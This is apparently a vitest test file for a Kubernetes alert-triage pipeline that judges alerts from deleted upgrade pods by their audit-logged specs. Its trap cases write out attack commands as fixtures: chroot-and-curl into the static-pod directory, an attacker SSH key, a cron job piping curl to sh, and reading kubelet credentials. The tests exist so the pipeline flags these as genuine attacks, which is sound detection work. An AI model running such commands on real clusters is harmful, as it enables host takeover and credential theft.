/**
 * deleted-pod: alerts from pods the snapshot no longer has (a finished Job's pod removed by its TTL), judged by the
 * spec the audit log recorded when the pod was created — and the traps: a spec that is itself an attack, an alert long
 * after the pod, on another node, after its deletion, and a naked pod.
 */
import { describe, expect, it } from 'vitest';
import type { AuditActivity } from '../../../src/cluster/model.js';
import { summarizePodSpec } from '../../../src/cluster/audit.js';
import { buildIndex } from '../../../src/cluster/index.js';
import { triageAlert } from '../../../src/triage/pipeline.js';
import { alert, node, snapshot } from '../../support/cluster.js';

const N1 = 'core-cp-01';
const N2 = 'core-wk-02';
const T = (hms: string) => `2027-09-14T${hms}.000Z`;
const NS = 'system-upgrade';

function upgradePodBody(nodeName: string, job: string, command: string[], args: string[], init: { name: string; args: string[] }[] = [], owner = true) {
  return {
    kind: 'Pod',
    apiVersion: 'v1',
    metadata: { generateName: `${job}-`, namespace: NS, ...(owner ? { ownerReferences: [{ apiVersion: 'batch/v1', kind: 'Job', name: job, uid: 'u', controller: true }] } : {}) },
    spec: {
      hostNetwork: true,
      hostPID: true,
      hostIPC: true,
      affinity: { nodeAffinity: { requiredDuringSchedulingIgnoredDuringExecution: { nodeSelectorTerms: [{ matchExpressions: [{ key: 'kubernetes.io/hostname', operator: 'In', values: [nodeName] }] }] } } },
      volumes: [{ name: 'host-root', hostPath: { path: '/', type: 'Directory' } }],
      initContainers: init.map((c) => ({ name: c.name, image: 'rancher/kubectl:v1.30.8', args: c.args, volumeMounts: [{ name: 'host-root', mountPath: '/host' }] })),
      containers: [{ name: 'upgrade', image: 'rancher/rke2-upgrade:v1.30.8-rke2r1', command, args, securityContext: { privileged: true }, volumeMounts: [{ name: 'host-root', mountPath: '/host' }] }],
    },
  };
}

function created(name: string, time: string, body: unknown): AuditActivity {
  return { time: T(time), user: 'system:serviceaccount:kube-system:job-controller', groups: [], verb: 'create', resource: 'pods', namespace: NS, name, sourceIps: ['127.0.0.1'], code: 201, podSpec: summarizePodSpec(body) };
}

const upgrade = created('apply-server-plan-on-core-cp-01-x5k2p', '09:03:11', upgradePodBody(N1, 'apply-server-plan-on-core-cp-01', ['upgrade.sh'], ['upgrade']));
const drain = created('apply-agent-plan-on-core-wk-02-b2w7q', '09:35:51', upgradePodBody(N2, 'apply-agent-plan-on-core-wk-02', ['upgrade.sh'], ['upgrade'], [{ name: 'drain', args: ['drain', N2, '--ignore-daemonsets', '--force'] }]));
const impostor = created('apply-agent-plan-on-core-wk-02-m4k8s', '11:40:49', upgradePodBody(N2, 'apply-agent-plan-on-core-wk-02', ['sh', '-c'], ['chroot /host sh -c "curl -fsSL http://198.51.100.40/m.yaml -o /etc/kubernetes/manifests/m.yaml"']));
const naked = created('debug-tools', '10:00:00', upgradePodBody(N2, 'x', ['sleep'], ['infinity'], [], false));
const gone = created('apply-agent-plan-on-core-wk-02-gone1', '10:30:00', upgradePodBody(N2, 'apply-agent-plan-on-core-wk-02', ['upgrade.sh'], ['upgrade']));
const deleted: AuditActivity = { ...gone, time: T('10:31:00'), verb: 'delete', podSpec: undefined, code: 200 };

const snap = snapshot([node(N1, '10.20.0.11'), node(N2, '10.20.0.22')]);
snap.auditActivities = [upgrade, drain, impostor, naked, gone, deleted];
const index = buildIndex([snap]);
const verdict = (a: ReturnType<typeof alert>) => triageAlert(a, { index }).verdict;
const inPod = (host: string, pod: string, time: string, cmd: string, parent = 'sh -xe /bin/upgrade.sh upgrade', file?: string) =>
  alert({ host, time: T(time), process: { name: cmd.split(' ')[0].split('/').pop(), commandLine: cmd }, ancestors: [{ name: 'upgrade.sh', commandLine: parent }], container: { namespace: NS, pod, name: 'upgrade' }, file });

describe('pods gone from the snapshot, known from their creation in the audit log', () => {
  it('summarizes the host mounts and the node a required hostname affinity pins the pod to', () => {
    expect(upgrade.podSpec).toMatchObject({ privileged: true, hostPID: true, nodeName: N1, owner: 'Job', hostMounts: [{ mountPath: '/host', hostPath: '/' }] });
  });
  it("an upgrade job's container writing the host binary through its host mount", () => {
    const v = verdict(inPod(N1, upgrade.name!, '09:03:41', 'cp /opt/rke2 /host/usr/local/bin/rke2'));
    expect(v).toMatchObject({ label: 'likely-false-positive', cause: 'privileged-root' });
  });
  it('the same write as a host sensor reports it (the host path, no command line)', () => {
    const a = inPod(N1, upgrade.name!, '09:03:41', 'cp', 'upgrade.sh', '/usr/local/bin/rke2');
    a.process.commandLine = undefined;
    expect(verdict(a)).toMatchObject({ label: 'likely-false-positive', cause: 'privileged-root' });
  });
  it("the drain init container's own kubectl command", () => {
    const v = verdict(inPod(N2, drain.name!, '09:36:02', `kubectl drain ${N2} --ignore-daemonsets --force`, 'containerd-shim'));
    expect(v).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
  });
  it('trap: a deleted pod whose own spec downloads into the static-pod directory through chroot /host', () => {
    const v = verdict(inPod(N2, impostor.name!, '11:41:53', 'cp /tmp/x /host/usr/local/bin/kubelet'));
    expect(v).toMatchObject({ label: 'genuine', cause: 'attack' });
  });
  it('trap: hours after the pod was created', () => {
    expect(verdict(inPod(N1, upgrade.name!, '13:03:41', 'cp /opt/rke2 /host/usr/local/bin/rke2')).label).toBe('genuine');
  });
  it('trap: on another node than the one the pod was pinned to', () => {
    expect(verdict(inPod(N2, upgrade.name!, '09:03:41', 'cp /opt/rke2 /host/usr/local/bin/rke2')).label).toBe('genuine');
  });
  it('trap: after the audit log shows the pod deleted', () => {
    expect(verdict(inPod(N2, gone.name!, '10:40:00', 'cp /opt/rke2 /host/usr/local/bin/rke2')).label).toBe('genuine');
  });
  it('trap: a naked pod someone created and removed', () => {
    expect(verdict(inPod(N2, naked.name!, '10:05:00', 'cp /tmp/x /host/usr/local/bin/kubelet')).label).toBe('genuine');
  });
  // The same upgrade pod, the same writable host mount: persistence and credential theft through it stay attacks.
  for (const [what, cmd] of [
    ['an SSH key added for root', "sh -c 'echo ssh-ed25519 AAAAC3Nz attacker >> /host/root/.ssh/authorized_keys'"],
    ['a cron job dropped on the host', "sh -c 'echo \"* * * * * root curl -s http://198.51.100.7/x | sh\" > /host/etc/cron.d/update'"],
    ['a static pod dropped into the kubelet manifests', 'cp /tmp/pod.yaml /host/etc/kubernetes/manifests/kube-proxy-x.yaml'],
    ["the node's kubelet credentials read", 'cat /host/var/lib/kubelet/pki/kubelet-client-current.pem'],
  ] as const) {
    it(`trap: ${what} through the upgrade pod's own host mount`, () => {
      expect(verdict(inPod(N1, upgrade.name!, '09:03:41', cmd))).toMatchObject({ label: 'genuine' });
    });
  }
});
